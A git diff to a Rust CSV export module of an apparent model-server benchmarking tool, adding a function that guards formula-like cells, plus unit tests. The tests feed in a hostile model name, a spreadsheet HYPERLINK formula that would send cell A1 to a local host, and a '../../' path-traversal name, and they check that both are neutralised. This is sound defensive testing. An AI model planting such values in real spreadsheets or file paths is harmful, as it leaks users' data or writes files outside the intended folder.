@@ -1,6 +1,6 @@
 //! One row per cell with every number of METRICS: plain, in base units, empty where nothing was measured.
 
-use super::sorted;
+use super::{column::Column, sorted};
 use crate::{
     format,
     metric::{METRICS, Metric},
@@ -12,6 +12,24 @@ pub fn render(state: &RunState) -> String {
     let rows = sorted(state).into_iter().map(|cell| row(state, cell));
     let lines: Vec<String> = std::iter::once(head()).chain(rows).map(|cells| cells.join(",")).collect();
     lines.join("\r\n") + "\r\n"
+}
+
+/// A table as it is shown, number for number; "—" becomes empty, as everywhere in CSV. What was shown is no foreign text
+/// but what begins like a formula is guarded all the same, unless it is a number.
+pub fn shown(state: &RunState, columns: &[Column], cells: &[&Cell]) -> String {
+    let load = state.plan.load();
+    let head = columns.iter().map(|column| text(&column.head(load))).collect();
+    let row = |cell: &&Cell| columns.iter().map(|column| shown_cell(&column.text(state, cell))).collect();
+    let lines: Vec<Vec<String>> = std::iter::once(head).chain(cells.iter().map(row)).collect();
+    lines.iter().map(|cells| cells.join(",")).collect::<Vec<_>>().join("\r\n") + "\r\n"
+}
+
+fn shown_cell(value: &str) -> String {
+    match value {
+        format::MISSING => String::new(),
+        number if number.parse::<f64>().is_ok_and(f64::is_finite) => number.to_owned(),
+        words => text(words),
+    }
 }
 
 fn head() -> Vec<String> {
@@ -75,7 +93,7 @@ fn text(value: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::sample;
+    use crate::{plan::PlanDraft, sample};
 
     #[test]
     fn texts_are_guarded_and_quoted() {
@@ -89,6 +107,46 @@ mod tests {
         check("\rx", "\"'\rx\"");
         check("a,\"b\"", "\"a,\"\"b\"\"\"");
         check("", "");
+    }
+
+    #[test]
+    fn a_shown_table_keeps_its_texts_and_numbers_stay_numbers() {
+        let check = |value: &str, wanted: &str| assert_eq!(shown_cell(value), wanted);
+        check("—", "");
+        check("-3.5", "-3.5");
+        check("4,201.1", "\"4,201.1\"");
+        check("-0.04 ms", "'-0.04 ms");
+        check("=1+1", "'=1+1");
+        check("Skipped: not enough room", "Skipped: not enough room");
+        let state = sample::reference();
+        let cells: Vec<&Cell> = state.cells.iter().rev().take(1).collect();
+        let columns = ["context", "total_tok_s", "ttft", "ttft.n"].into_iter().filter_map(Column::by_key);
+        let file = shown(&state, &columns.collect::<Vec<_>>(), &cells);
+        assert_eq!(file, "Context,Total tok/s,TTFT,\"TTFT, n\"\r\n1019K,\"1,179.4\",\"94,031 ms\",\r\n");
+    }
+
+    /// What a server calls its model may be a formula, or a path out of the folder.
+    #[test]
+    fn a_hostile_name_is_text_in_the_file_and_no_path() {
+        let mut state = sample::reference();
+        let check = |state: &RunState, title: &str, stem: &str| {
+            let labels = crate::label::Labels::default();
+            let file = render(state);
+            assert!(file.lines().nth(1).is_some_and(|row| row.starts_with(&format!("reference,{title},"))), "{file}");
+            assert_eq!(crate::export::file_stem(state, &labels), stem);
+        };
+        let mut named = |name: &str| {
+            let draft = PlanDraft { name: name.to_owned(), ..PlanDraft::from(state.plan.clone()) };
+            state.plan = draft.try_into().unwrap();
+            state.clone()
+        };
+        check(
+            &named("=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"ok\")"),
+            "\"'=HYPERLINK(\"\"http://127.0.0.1:9/?x=\"\"&A1,\"\"ok\"\")\"",
+            "speedmatrix-hyperlink-http-127-0-0-1-9-x-a1-ok-reference",
+        );
+        check(&named("../../org/model,\"x\""), "\"../../org/model,\"\"x\"\"\"", "speedmatrix-org-model-x-reference");
+        check(&named("…"), "…", "speedmatrix-reference");
     }
 
     #[test]
